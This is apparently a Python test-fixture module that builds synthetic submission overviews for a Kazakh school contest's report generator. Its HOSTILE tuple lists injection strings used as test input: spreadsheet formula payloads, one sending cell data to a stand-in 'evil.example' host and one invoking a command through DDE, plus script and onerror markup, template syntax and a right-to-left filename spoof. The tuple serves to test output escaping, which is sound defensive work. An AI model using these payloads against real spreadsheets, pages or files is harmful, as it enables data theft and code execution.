"""Overviews made by hand and by seed: every situation a report can meet, without a database."""

import random
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field, replace
from datetime import datetime, timedelta
from functools import cache
from pathlib import Path

from parsers.facts import ApplicationFacts, Evidence, FieldValue, FileFacts, Problem, ReadBy, Segment
from pipeline.contest import Contest, load
from pipeline.state import (
    ApplicationState,
    FileState,
    Finding,
    Interval,
    Judged,
    KindClaim,
    LetterState,
    LetterVerdict,
    Overview,
    Standing,
    SubmissionState,
    Verdict,
)

ROOT = Path(__file__).parents[2]
_LEGAL = "Астана қаласы әкімдігінің «№ 79 Ғ. Қайырбеков атындағы мектеп-лицейі» шаруашылық жүргізу құқығындағы "
LONG_NAME = (_LEGAL * 3)[:200]
DEADLINE = "2025-10-17T23:59:59+05:00"
# Texts that try to run in a spreadsheet, to turn the direction of writing, to become a page's markup, or to break it.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Ашу")',
    "+7 701 111 22 33",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "vertical\x0btab",
    "bell\x07 and \x00 null",
    "doc\u202egpj.exe",
    "<script>alert('Сәлем')</script>",
    "<img src=x onerror=alert(1)>",
    "a&b <b>\"қою\"</b> 'x'",
    "broken \udcff\ud800 halves",
    "{{ 7*7 }} {% raw %}",
    "\u2066isolated\u2069 \ufeff \u2028 line",
    "{ $file } { -brand }",
    "nonchar \ufffe\uffff",
    "＝1+1",
    "<r><t>rich & broken</r>",
    "_x0041_ \x1b[31m red \x9b",
    "'=1+1",
)


@cache
def the_contest() -> Contest:
    """The contest of the repository's own configuration."""
    return load(ROOT / "config.toml").contest


def at(text: str) -> datetime:
    """A moment of the contest's zone from «2025-10-15 10:11» or with seconds."""
    return datetime.fromisoformat(text).replace(tzinfo=the_contest().dates.zone)


def interval(text: str, proof: str = "trusted_received") -> Interval:
    """A receipt whose two ends are some seconds apart; without proof it has no ends."""
    if proof == "none":
        return Interval(None, None, "none")
    start = at(text)
    return Interval(start, start if proof == "internaldate" else start + timedelta(seconds=4), proof)


def facts(role: str = "document", *, problem: str | None = None, pages: int | None = 2, kind: str = "pdf") -> FileFacts:
    """The facts of one file that is one thing."""
    segment = Segment(None, role)  # type: ignore[arg-type]
    read: ReadBy = "none" if problem else "text"
    return FileFacts(kind, pages, (read,) * (pages or 1), (segment,), problem=Problem(problem) if problem else None)


@dataclass
class Builder:
    """Makes letters, files and submissions with numbers of their own."""

    contest: Contest = field(default_factory=the_contest)
    letters: list[LetterState] = field(default_factory=list)
    judged: list[Judged] = field(default_factory=list)
    files: int = 0
    held: dict[int, list[FileState]] = field(default_factory=dict)

    def file(self, letter: LetterState, name: str, made: FileFacts | None = None) -> FileState:
        """A file of a letter."""
        self.files += 1
        file = FileState(
            id=self.files,
            letter_id=letter.id,
            letter_key=letter.key,
            path=str(self.files),
            name=name,
            content_type="application/pdf",
            size=120_000,
            sha256=f"{self.files:064x}",
            facts=made or facts(),
        )
        self.held.setdefault(letter.id, []).append(file)
        return file

    def letter(
        self,
        received: str = "2025-10-15 10:11:12",
        *,
        sender: str = "mektep@example.kz",
        sender_name: str = "Мектеп",
        subject: str = "Байқауға",
        proof: str = "trusted_received",
        verdict: LetterVerdict = LetterVerdict.SUBMISSION,
        why: Finding | None = None,
        founder: str | None = None,
        joined_by: Finding | None = None,
        problem: Problem | None = None,
    ) -> LetterState:
        """A letter; without ``founder`` it founds its own submission when it is one."""
        number = len(self.letters) + 1
        key = f"{number:064x}"
        belongs = verdict is LetterVerdict.SUBMISSION
        letter = LetterState(
            id=number,
            key=key,
            message_id=f"<{number}@example.kz>",
            sender=sender,
            sender_name=sender_name,
            subject=subject,
            sent="Wed, 15 Oct 2025 10:11:00 +0500",
            source=f"letters/{number}.eml",
            receipt=interval(received, proof),
            verdict=verdict,
            why=why or Finding("letter", "letter_application", {"file": "сұраныс.docx"}, passed=True),
            founder=(founder or key) if belongs else founder,
            joined_by=joined_by or (Finding("grouping", "founded", passed=True) if belongs and not founder else None),
            problem=problem,
        )
        self.letters.append(letter)
        return letter

    def application(
        self,
        letter: LetterState,
        values: Mapping[str, str] | None = None,
        *,
        status: str = "sure",
        signed: bool | None = None,
        in_body: bool = False,
        rivals: tuple[str, ...] = (),
        leave_out: Sequence[str] = (),
    ) -> ApplicationState:
        """An application with ordinary values where none are given."""
        given = {
            "institution": "«№ 9 мектеп-лицей» ШЖҚ МКК",
            "address": "Астана қаласы, Желтоқсан көшесі, 9",
            "phone": "8 (7172) 55-11-22",
            "email": "mektep9@example.kz",
            "subject": "Математика",
            "leader": "Әлімова Гүлнәр Сәкенқызы",
            "leader_phone": "+7 701 555 44 33",
            "head": "Қасымов Ерлан Болатұлы",
            "date": "«10» қазан 2025 жыл",
            **(values or {}),
        }
        fields = tuple(
            FieldValue(key, value, "2025-10-10" if key == "date" else value, page=1, line=place)
            for place, (key, value) in enumerate(given.items(), 1)
            if key not in leave_out
        )
        evidence = (Evidence("heading", "байқауына қатысуға СҰРАНЫС", 1),)
        made = ApplicationFacts(fields, (1,), evidence, status, signed)  # type: ignore[arg-type]
        file = None if in_body else self.file(letter, "сұраныс.docx", facts("application", pages=1))
        return ApplicationState(made, letter.key, file, rivals)

    def claim(
        self,
        letter: LetterState,
        kind: str,
        name: str | None = None,
        *,
        status: str = "sure",
        partly: bool = False,
        pages: tuple[int, ...] | None = (1, 2),
        words: str | None = None,
        by: str = "machine",
    ) -> KindClaim:
        """A file that counts (or may count) for a kind."""
        known = next((one for one in self.contest.kinds if one.key == kind), None)
        title = known.title.kk if known else "Өтінім"
        evidence = (
            Evidence("heading", words if words is not None else title, 1),
            Evidence("name", title.split()[0].lower()),
        )
        made = self.file(letter, name or f"{known.number if known else 0:02} {title[:40]}.pdf")
        return KindClaim(kind, made, letter.message_id, pages, status, partly, evidence, by)  # type: ignore[arg-type]

    def all_claims(self, letter: LetterState, *, without: Sequence[str] = ()) -> dict[str, tuple[KindClaim, ...]]:
        """One sure file for every kind."""
        return {k.key: (self.claim(letter, k.key),) for k in self.contest.kinds if k.key not in without}

    def submit(
        self,
        letters: Sequence[LetterState],
        verdict: Verdict,
        *,
        application: ApplicationState | None = None,
        claims: Mapping[str, tuple[KindClaim, ...]] | None = None,
        late: Mapping[str, tuple[KindClaim, ...]] | None = None,
        **more: object,
    ) -> Judged:
        """A submission of these letters with its verdict."""
        deadline = self.contest.dates.deadline
        state = SubmissionState(
            number=len(self.judged) + 1,
            founder=letters[0].key,
            aliases=(),
            deadline=deadline,
            letters=tuple(letters),
            timing={letter.key: letter.receipt.against(deadline) for letter in letters},
            application=application,
            claims=claims or {},
            late=late or {},
        )
        judged = Judged(replace(state, **more), verdict)  # type: ignore[arg-type]
        self.judged.append(judged)
        return judged

    def overview(self, as_of: str = "2025-10-18 09:00:00") -> Overview:
        """All of it at one moment."""
        letters = {one.key: replace(one, files=tuple(self.held.get(one.id, ()))) for one in self.letters}
        judged = [
            replace(one, state=replace(one.state, letters=tuple(letters[letter.key] for letter in one.state.letters)))
            for one in self.judged
        ]
        return Overview(
            as_of=at(as_of),
            submissions=tuple(judged),
            letters=tuple(letters.values()),
            numbers={judged.state.founder: judged.state.number for judged in self.judged},
        )


def verdict(
    standing: Standing,
    reasons: Sequence[str] = (),
    findings: Sequence[Finding] = (),
    missing: Sequence[str] = (),
    doubtful: Sequence[str] = (),
) -> Verdict:
    """A verdict with the passes that every submission has."""
    passes = (
        Finding("receipt", "receipt_proven", passed=True),
        Finding("eligibility", "eligible", {"institution": "мектеп"}, passed=True),
        Finding("one_per_school", "only_of_school", passed=True),
    )
    return Verdict(standing, tuple(reasons), (*findings, *passes), tuple(missing), tuple(doubtful))


def in_time(time: str = "2025-10-15T10:11:12+05:00", count: int = 1) -> Finding:
    """The finding of a submission that came in time."""
    deadline = the_contest().dates.deadline.isoformat()
    return Finding("deadline", "received_in_time", {"time": time, "deadline": deadline, "count": str(count)}, True)


def missing(*kinds: str) -> list[Finding]:
    """One finding for each missing kind."""
    return [
        Finding("completeness", "kind_missing", {"kind": kind})
        if kind != "application"
        else Finding("application", "application_absent")
        for kind in kinds
    ]


def every_situation() -> Overview:
    """One overview with all that a report must tell."""
    make = Builder()
    _accepted(make)
    _not_complete(make)
    _rejected(make)
    _held(make)
    _strange(make)
    _other_letters(make)
    return make.overview()


def _accepted(make: Builder) -> None:
    letter = make.letter()
    second = make.letter(
        "2025-10-16 09:00",
        founder=letter.key,
        joined_by=Finding("grouping", "joined_thread", {"founder": letter.key, "message_id": letter.message_id}, True),
    )
    claims = make.all_claims(letter)
    claims["partnerships"] = (make.claim(second, "partnerships", "мұрағат.zip/23/меморандум.pdf", by="person"),)
    claims["meeting_minutes"] = (
        make.claim(letter, "meeting_minutes", "хаттама 1.docx", pages=None),
        make.claim(second, "meeting_minutes", "барлығы.pdf", pages=(1, 2, 3, 7, 9, 10)),
    )
    make.submit(
        [letter, second],
        verdict(
            Standing.ACCEPTED,
            findings=[
                in_time(count=2),
                Finding("completeness", "kinds_present", {"count": "24", "of": "24"}, True),
                Finding(
                    "application",
                    "application_complete",
                    {"institution": "№ 9 мектеп-лицей", "leader": "Әлімова Г. С.", "file": ""},
                    True,
                ),
            ],
        ),
        application=make.application(letter, signed=True),
        claims=claims,
        annexes=(
            make.file(second, "фото/апталық.jpg", facts("annex")),
            make.file(second, "грамота.pdf", facts("annex")),
        ),
        others=(make.file(second, "ілеспе хат.pdf", facts("none")),),
        remarks=(
            Finding("remark", "last_day", {"time": "2025-10-17T18:00:00+05:00", "deadline": DEADLINE}),
            Finding(
                "remark", "same_paper", {"file": "бұйрық.pdf", "kinds": "establishment_order, leader_appointment_order"}
            ),
        ),
    )
    letter = make.letter("2025-10-14 12:00", sender="school3@example.kz", sender_name="СШ 3")
    make.submit(
        [letter],
        verdict(
            Standing.ACCEPTED,
            findings=[in_time(), Finding("completeness", "kind_waived", {"kind": "young_specialist_school"}, True)],
        ),
        application=make.application(letter, {"institution": LONG_NAME, "leader": "Ыбыраева Айсұлу"}, in_body=True),
        claims=make.all_claims(letter, without=("young_specialist_school",)),
        waived=("young_specialist_school",),
    )


def _not_complete(make: Builder) -> None:
    letter = make.letter("2025-10-10 08:30", sender="ivanova@example.kz", sender_name="Иванова А. П.")
    lacking = ("publications", "elective_courses", "olympiad_results")
    claims = make.all_claims(letter, without=lacking)
    claims["topic_goal_priorities"] = (make.claim(letter, "topic_goal_priorities", partly=True),)
    make.submit(
        [letter],
        verdict(
            Standing.INCOMPLETE,
            findings=[
                in_time(),
                Finding("deadline", "before_deadline", {"deadline": DEADLINE}, True),
                *missing(*lacking),
            ],
            missing=lacking,
        ),
        application=make.application(
            letter,
            {"institution": "КГУ «Школа-гимназия № 10»", "leader": "Иванова Анна Петровна", "subject": "бастауыш"},
        ),
        claims=claims,
        remarks=(Finding("remark", "kind_partly", {"kind": "topic_goal_priorities", "file": "06.pdf"}),),
    )


def _rejected(make: Builder) -> None:
    late = make.letter("2025-10-18 00:00:01", sender="kesh@example.kz")
    make.submit(
        [late],
        verdict(
            Standing.REJECTED,
            ["late"],
            [
                Finding(
                    "deadline",
                    "all_late",
                    {"time": "2025-10-18T00:00:01+05:00", "deadline": DEADLINE},
                )
            ],
            missing=("application", *(kind.key for kind in make.contest.kinds)),
        ),
        late={"application": (make.claim(late, "application", "сұраныс.docx"),)}
        | {kind.key: (make.claim(late, kind.key),) for kind in make.contest.kinds[:5]},
    )
    letter = make.letter("2025-10-17 22:00", sender="toliq@example.kz")
    second = make.letter("2025-10-18 01:00", founder=letter.key, sender="toliq@example.kz")
    lacking = ("application", "publications", "gifted_pupils_plan")
    make.submit(
        [letter, second],
        verdict(
            Standing.REJECTED,
            ["incomplete"],
            [
                in_time(),
                *missing(*lacking),
                Finding("rulings", "ruling_reject", passed=True),
                Finding(
                    "deadline",
                    "late_letters",
                    {"count": "1", "time": "2025-10-18T01:00:00+05:00", "deadline": DEADLINE},
                    True,
                ),
            ],
            missing=lacking,
        ),
        claims=make.all_claims(letter, without=lacking),
        late={"publications": (make.claim(second, "publications", "жарияланым.docx"),)},
    )


def _held(make: Builder) -> None:
    letter = make.letter("2025-10-16 15:00", sender="skan@example.kz", sender_name="Scanner")
    unread = tuple(
        make.file(letter, f"{code}.pdf", facts("unread", problem=code))
        for code in ("encrypted", "damaged", "scan", "unsupported", "bomb", "time_limit", "program", "empty")
    )
    claims = make.all_claims(letter, without=("publications", "partnerships", "annual_work_plan"))
    claims["annual_work_plan"] = (make.claim(letter, "annual_work_plan", status="doubtful", pages=(4,)),)
    make.submit(
        [letter],
        verdict(
            Standing.HELD,
            ["unreadable", "ambiguous"],
            [
                in_time(),
                *[Finding("readability", "file_unread", {"file": f.name, "problem": f.name[:-4]}) for f in unread],
                Finding("readability", "link_instead", {"link": "https://cloud.example.kz/s/abc?x=1&y=2"}),
                Finding("completeness", "kind_doubtful", {"kind": "annual_work_plan", "file": "жоспар.pdf"}),
                *missing("publications", "partnerships"),
            ],
            missing=("publications", "partnerships"),
            doubtful=("annual_work_plan",),
        ),
        application=make.application(letter, {"institution": "№ 84 мектеп-гимназия"}, signed=False),
        claims=claims,
        unread=unread,
        unrecognised=(make.file(letter, "Документ1.docx", facts("unrecognised")),),
        links=("https://cloud.example.kz/s/abc?x=1&y=2", "javascript:alert(1)"),
    )
    _held_by_school(make)
    letter = make.letter("2025-10-17 10:00", proof="none", sender="dalel@example.kz")
    make.submit(
        [letter],
        verdict(
            Standing.HELD,
            ["receipt_unproven"],
            [Finding("receipt", "nothing_proven", {"count": "1", "deadline": DEADLINE})],
        ),
        application=make.application(letter, {"institution": "№ 15 мектеп"}),
        claims=make.all_claims(letter),
    )
    letter = make.letter("2025-10-13 10:00", sender="anyq@example.kz")
    make.submit(
        [letter],
        verdict(
            Standing.HELD,
            ["application_unclear"],
            [
                in_time(),
                Finding("application", "application_field_empty", {"field": "head", "file": "сұраныс.docx"}),
                Finding(
                    "application",
                    "application_field_unclear",
                    {"field": "leader_phone", "file": "сұраныс.docx", "value": "8 7O1"},
                ),
            ],
        ),
        application=make.application(letter, {"institution": "№ 21 мектеп"}, status="doubtful", leave_out=("head",)),
        claims=make.all_claims(letter),
    )
    letter = make.letter("2025-10-13 11:00", sender="college@example.kz")
    make.submit(
        [letter],
        verdict(
            Standing.HELD,
            ["eligibility"],
            [in_time(), Finding("eligibility", "not_a_school", {"institution": "Колледж", "words": "колледж"})],
        ),
        application=make.application(letter, {"institution": "Политехникалық колледж"}),
        claims=make.all_claims(letter),
    )


def _held_by_school(make: Builder) -> None:
    """Two leaders of one school, and a third submission that may belong to the first of them."""
    letters = [make.letter(f"2025-10-1{day} 10:00", sender=f"s{day}@example.kz") for day in (2, 3)]
    first = len(make.judged) + 1
    for place, letter in enumerate(letters):
        other = letters[1 - place]
        make.submit(
            [letter],
            verdict(
                Standing.HELD,
                ["second_of_school"],
                [
                    in_time(),
                    Finding("one_per_school", "second_of_school", {"number": str(first + 1 - place), "by": "school"}),
                ],
            ),
            application=make.application(
                letter,
                {"institution": "№ 5 мектеп-гимназия", "leader": ("Ахметова Әсел", "Өмірзақ Нұрлан")[place]},
                rivals=(other.key,),
            ),
            claims=make.all_claims(letter),
            rivals=(other.key,),
            proposals=(letters[0].key,) if place else (),
        )


def _strange(make: Builder) -> None:
    """A school, leader, files, sender and subject of every hostile text."""
    for text in HOSTILE:
        letter = make.letter("2025-10-11 11:11", sender_name=text, subject=text)
        claims = make.all_claims(letter, without=("publications",))
        claims["partnerships"] = (make.claim(letter, "partnerships", text, words=text),)
        make.submit(
            [letter],
            verdict(
                Standing.HELD,
                ["ambiguous"],
                [in_time(), Finding("readability", "file_unrecognised", {"file": text}), *missing("publications")],
                missing=("publications",),
            ),
            application=make.application(letter, {"institution": text, "leader": text, "subject": text, "email": text}),
            claims=claims,
            annexes=(make.file(letter, text, facts("annex")),),
            unread=(make.file(letter, text, facts("unread", problem="damaged")),),
            unrecognised=(make.file(letter, text, facts("unrecognised")),),
            links=(text,),
            remarks=(Finding("remark", "blank_file", {"file": text}),),
        )


def _other_letters(make: Builder) -> None:
    make.letter(
        "2025-10-11 12:00",
        verdict=LetterVerdict.UNRELATED,
        why=Finding("letter", "letter_other", {"file": "шот.pdf", "other": "шот-фактура"}),
        sender="shop@example.com",
        subject="Счёт на оплату",
    )
    make.letter(
        "2025-10-12 12:00",
        verdict=LetterVerdict.UNCLEAR,
        why=Finding("letter", "letter_unread", {"file": "IMG_0001.jpg", "problem": "scan"}),
        sender="unknown@example.com",
        subject="",
    )
    make.letter(
        "2025-10-12 12:30",
        verdict=LetterVerdict.AUTOMATIC,
        why=Finding("letter", "automatic", {}),
        sender="mailer-daemon@example.com",
    )
    make.letter(
        "2025-10-12 13:00",
        verdict=LetterVerdict.QUARANTINED,
        why=Finding("letter", "quarantined", {}),
        problem=Problem("crashed", "signal 9"),
        sender="broken@example.com",
    )


def small() -> Overview:
    """Two submissions and one stray letter: the golden file's overview."""
    make = Builder()
    letter = make.letter()
    make.submit(
        [letter],
        verdict(Standing.ACCEPTED, findings=[in_time()]),
        application=make.application(letter, signed=None),
        claims=make.all_claims(letter),
        annexes=(make.file(letter, "фото.jpg", facts("annex")),),
    )
    first = make.letter("2025-10-17 23:59:59", sender="ekinshi@example.kz", proof="internaldate")
    late = make.letter("2025-10-18 00:00:05", sender="ekinshi@example.kz", founder=first.key)
    lacking = ("application", "publications")
    claims = make.all_claims(first, without=("publications", "partnerships"))
    claims["partnerships"] = (
        make.claim(first, "partnerships", "xx.zip/серіктестік.docx", status="doubtful", pages=None),
    )
    make.submit(
        [first, late],
        verdict(
            Standing.HELD,
            ["unreadable"],
            [
                Finding("readability", "file_unread", {"file": "скан.pdf", "problem": "scan"}),
                *missing(*lacking),
            ],
            missing=lacking,
            doubtful=("partnerships",),
        ),
        claims=claims,
        late={"publications": (make.claim(late, "publications", "мақала.pdf"),)},
        unread=(make.file(first, "скан.pdf", facts("unread", problem="scan")),),
        links=("https://disk.example.kz/d/1",),
        remarks=(
            Finding("remark", "late_letters", {"count": "1", "time": "2025-10-18T00:00:05+05:00", "deadline": ""}),
        ),
    )
    make.letter(
        "2025-10-12 12:00",
        verdict=LetterVerdict.UNRELATED,
        why=Finding("letter", "letter_nothing", {}),
        sender="news@example.com",
    )
    return make.overview()


def many(schools: int, seed: int = 1) -> Overview:
    """As many schools as asked, varied by seed as real ones vary: most nearly complete, a few of every other sort."""
    chance = random.Random(seed)
    make = Builder()
    names = _school_names()
    subjects = ("Математика", "Қазақ тілі", "Физика", "бастауыш", "Тарих", "Биология", "Ағылшын тілі", "Информатика")
    keys = [kind.key for kind in make.contest.kinds]
    for number in range(1, schools + 1):
        moment = at("2025-10-01 08:00") + timedelta(minutes=chance.randrange(60 * 24 * 17))
        letter = make.letter(f"{moment:%Y-%m-%d %H:%M}", sender=f"school{number}@example.kz")
        lacking = tuple(key for key in keys if chance.random() < chance.choice((0, 0, 0, 0.1, 0.4)))
        doubted = tuple(key for key in keys if key not in lacking and chance.random() < 0.03)
        claims = {
            key: (
                make.claim(
                    letter,
                    key,
                    status="doubtful" if key in doubted else "sure",
                    partly=chance.random() < 0.05,
                    pages=tuple(range(1, chance.randrange(2, 9))),
                ),
            )
            for key in keys
            if key not in lacking
        }
        standing, reasons = _standing(chance, lacking, doubted)
        name = names[(number - 1) % len(names)]
        make.submit(
            [letter],
            verdict(
                standing,
                reasons,
                [in_time(), *missing(*lacking)],
                missing=lacking,
                doubtful=doubted,
            ),
            application=make.application(
                letter,
                {
                    "institution": name if number <= len(names) else f"{name} ({number})",
                    "leader": chance.choice(("Ахметова", "Әлімова", "Өмірова", "Иванова", "Ыбырай", "Үсенова"))
                    + " "
                    + chance.choice(("Гүлнәр", "Айсұлу", "Анна", "Ерлан", "Ұлжан")),
                    "subject": chance.choice(subjects),
                },
                in_body=chance.random() < 0.1,
            ),
            claims=claims,
            unread=(make.file(letter, "скан.pdf", facts("unread", problem="scan")),) if doubted else (),
        )
    return make.overview()


def _standing(
    chance: random.Random, lacking: Sequence[str], doubted: Sequence[str]
) -> tuple[Standing, tuple[str, ...]]:
    if lacking and doubted:
        return Standing.HELD, ("ambiguous",)
    if lacking:
        return chance.choice(((Standing.INCOMPLETE, ()), (Standing.REJECTED, ("incomplete",))))
    if doubted:
        return Standing.HELD, (chance.choice(("unreadable", "ambiguous")),)
    return Standing.ACCEPTED, ()


def _school_names() -> list[str]:
    types = ("мектеп-лицей", "мектеп-гимназия", "орта мектеп", "гимназия", "мектеп")
    named = ("Абай", "Ыбырай Алтынсарин", "Әл-Фараби", "Қаныш Сәтбаев", "Мағжан Жұмабаев", "Өзбекәлі Жәнібеков")
    return [
        f"Астана қаласы әкімдігінің «№ {number} {types[number % 5]}і» ШЖҚ МКК"
        if number % 3
        else f"«{named[number % 6]} атындағы № {number} {types[number % 5]}» КММ"
        for number in range(1, 207)
    ]
